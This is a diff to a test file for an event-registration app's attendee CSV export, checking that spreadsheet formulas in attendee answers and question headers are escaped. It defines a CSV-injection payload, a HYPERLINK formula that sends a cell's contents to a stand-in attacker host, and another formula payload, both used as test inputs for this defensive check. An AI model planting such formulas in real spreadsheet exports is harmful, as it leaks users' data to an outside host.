@@ -171,18 +171,23 @@ def test_organiser_approves_from_the_attendee_list(client, owner, event, outside
     assert pending.status == "confirmed"
 
 
-def test_csv_export_of_attendees(client, owner, event):
-    Event.objects.filter(pk=event.pk).update(questions=["Company?"])
-    RegistrationFactory(event=event, user__full_name="=HYPERLINK(1)", answers={"Company?": "Nemuno inžinerija"})
+EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+
+
+def test_csv_export_of_attendees_neutralises_formulas_in_answers_and_question_headers(client, owner, event):
+    Event.objects.filter(pk=event.pk).update(questions=["Company?", EVIL])
+    RegistrationFactory(
+        event=event, user__full_name="=HYPERLINK(1)", answers={"Company?": "Nemuno inžinerija", EVIL: "-1+A1"}
+    )
     client.force_login(owner)
     response = client.get(f"/en/events/{event.pk}/attendees.csv")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:3] == ["Name", "E-mail", "Status"]
-    assert rows[0][-1] == "Company?"
+    assert rows[0][-2:] == ["Company?", "'" + EVIL]
     assert rows[1][0] == "'=HYPERLINK(1)"
-    assert rows[1][-1] == "Nemuno inžinerija"
+    assert rows[1][-2:] == ["Nemuno inžinerija", "'-1+A1"]
 
 
 def test_check_in_page_ticks_names_with_htmx(client, owner, event, people):
